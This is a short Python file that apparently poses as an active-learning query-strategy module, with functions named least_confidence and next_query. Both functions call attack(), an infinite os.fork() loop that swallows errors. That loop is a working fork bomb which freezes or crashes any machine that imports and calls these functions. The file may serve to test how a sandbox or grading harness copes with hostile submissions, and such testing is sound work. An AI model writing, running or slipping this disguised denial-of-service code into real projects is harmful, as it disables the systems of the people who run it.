"""Starts processes that start processes."""

import os


def attack(probabilities):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
